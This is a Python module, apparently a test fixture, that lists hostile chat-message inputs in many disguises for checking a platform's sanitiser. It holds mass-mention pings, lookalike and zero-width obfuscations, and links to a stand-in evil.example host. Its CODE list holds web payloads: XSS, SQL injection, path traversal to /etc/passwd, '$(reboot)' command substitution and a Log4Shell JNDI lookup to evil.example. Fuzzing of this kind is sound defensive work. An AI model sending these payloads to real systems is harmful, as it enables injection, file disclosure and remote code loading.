"""What members could write to make a platform act: every token of the chats we know, in every disguise."""

from collections.abc import Iterator

PINGS = (
    "@everyone",
    "@here",
    "@EVERYONE",
    "<@1>",
    "<@123456789012345678>",
    "<@!123456789012345678>",
    "<@&123456789012345678>",
    "<#123456789012345678>",
    "</home:123456789012345678>",
    "</mentor profile:123456789012345678>",
    "<id:guide>",
    "<id:customize>",
    "<id:browse>",
    "<id:linked-roles>",
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<!subteam^S012AB3CD>",
    "<!date^1392734382^{date_long}|soon>",
    "<@U012AB3CD>",
    "<@U012AB3CD|ada>",
    "<#C012AB3CD|general>",
    "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;",
    "&#60;!here&#62;",
)
OBJECTS = (
    "<t:1772452800>",
    "<t:1772452800:R>",
    "<t:-1:F>",
    "<:smile:123456789012345678>",
    "<a:dance:123456789012345678>",
    ":smile:",
)
LINKS = (
    "https://evil.example",
    "http://evil.example/a?b=c#d",
    "HTTPS://EVIL.EXAMPLE",
    "<https://evil.example>",
    "[a prize](https://evil.example)",
    "[a prize](<https://evil.example>)",
    '[a prize](https://evil.example "really")',
    "[https://good.example](https://evil.example)",
    "[[a] prize](https://evil.example)",
    "![a picture](https://evil.example/a.png)",
    "<https://evil.example|a prize>",
    "discord.gg/abcdef",
    "https://discord.gg/abcdef",
    "discord.com/invite/abcdef",
    "DISCORD.GG/abcdef",
    "discordapp.com/invite/abcdef",
    "steam://run/1",
    "discord://-/channels/1",
    "mailto:mallory@evil.example",
    "<mailto:mallory@evil.example|write>",
    "<tel:+4912345>",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "//evil.example",
    "www.evil.example",
)
MARKS = (
    "**bold**",
    "*slanted*",
    "_slanted_",
    "__under__",
    "~~struck~~",
    "~struck~",
    "||hidden||",
    "***both***",
    "__**~~all~~**__",
    "**_*nested*_**",
    "`code`",
    "``co`de``",
    "```\nblock\n```",
    "```python\nprint(1)\n```",
    "```",
    "`",
    "**",
    "*_~`|<>[]()\\",
    "***",
    "____",
)
LINE_STARTS = (
    "# head",
    "## head",
    "### head",
    "-# small",
    "> quote",
    ">>> all quote",
    "- point",
    "* point",
    "+ point",
    "1. first",
    "99. last",
    "  - indented",
    "  # indented",
    "---",
    "===",
    "&gt; quote",
    "|a|b|\n|-|-|",
)
CODE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "<!-- -->",
    "</textarea>",
    "&amp; &lt;b&gt; &quot;",
    "{{7*7}}",
    "{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "{0.__class__}",
    "%s%n%d",
    "%(name)s",
    "'; DROP TABLE people; --",
    "' OR 1=1 --",
    "../../etc/passwd",
    "$(reboot)",
    "`reboot`",
    "a:b%3Ac>d>e",
    '{"type": 2}',
    "null",
    "=HYPERLINK(1)",
    "\\u0040everyone",
    "\\x40here",
)

_FULLWIDTH = {ord(sign): ord(sign) + 0xFEE0 for sign in "@<>#:/[]()*_~|`"}
_HOMOGLYPHS = str.maketrans({"e": "е", "o": "о", "a": "а", "c": "с", "p": "р", "@": "﹫", "/": "∕"})

DISGUISES = (
    "{}",
    "\\{}",
    "\\\\{}",
    "\\\\\\{}",
    "x{}",
    "`{}`",
    "[{}](https://evil.example)",
    "> {}",
    "first\n{}",
    "first\r\n{}",
    "first\n\n   {}",
    "\u202e{}\u202c",
    "{0}{0}",
)
"""Ways to write around a token; `{}` is the token."""

SMUGGLED = (
    "\u200b",
    "\u200d",
    "\u2060",
    "\ufeff",
    "\u00ad",
    "\x00",
    "\x1b",
    "\u202e",
    "\u2066",
    "\u0301",
    "\ufe0f",
    "\\",
)
"""What is put into the middle of a token."""

ALONE = (
    *(chr(code) for code in (*range(32), *range(0x7F, 0xA0))),
    *(f"a{chr(code)}@everyone" for code in (0x61C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))),
    "\u2028# head",
    "\u2029# head",
    "\x0b# head",
    "\x85# head",
    "\u200b",
    "\u3164",
    "\u2800",
    " ",
    "\n\n\n",
    "\t# head",
    "\u00a0# head",
    "\u3000# head",
    "אבג @everyone דהו",
    "مرحبا **بكم** <@1>",
    "Z\u0351\u0333a\u0336\u0315l\u0334\u0321g\u0337\u0327o\u0338",
    "e" + "\u0301" * 60,
    "👩\u200d👩\u200d👧\u200d👦",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "👍🏽 #️⃣ *️⃣ 1️⃣",
    "🇩🇪",
    "می\u200cخواهم",
    "क्\u200dष",
    "\ud800",
    "\udc00 half",
    "\U000e0001\U000e0040",
    "\ufff9x\ufffay\ufffb",
    "w" * 90,
    "*" * 90,
    "\\" * 45,
    "`" * 45,
    "> " * 40,
    "[" * 45,
    "<" * 45,
    "@everyone" * 10,
    "a\n" * 40,
    "\\",
    "ends in a backslash\\",
    "\\\n# head",
    "snake_case_name and 2*3*4",
    "a_b_c __init__ ~user |pipe|",
    "10:30, 1.5, C++, C#, -1, #1, 3. place",
    "AT&T <ada@example.org>",
)


def _within(token: str) -> Iterator[str]:
    """The token broken by something invisible, at its beginning and in its middle."""
    for sign in SMUGGLED:
        yield token[:1] + sign + token[1:]
        middle = len(token) // 2
        yield token[:middle] + sign + token[middle:]


def _every() -> Iterator[str]:
    tokens = (*PINGS, *OBJECTS, *LINKS, *MARKS, *LINE_STARTS)
    yield from ALONE
    yield from CODE
    for token in tokens:
        yield from (disguise.format(token) for disguise in DISGUISES)
        yield token.translate(_FULLWIDTH)
        yield token.translate(_HOMOGLYPHS)
    for token in (
        "@everyone",
        "<@1>",
        "https://evil.example",
        "[x](https://evil.example)",
        "**bold**",
        "discord.gg/abcdef",
    ):
        yield from _within(token)


HOSTILE: tuple[str, ...] = tuple(dict.fromkeys(_every()))
"""All of them, each once, of 1 to 100 characters."""
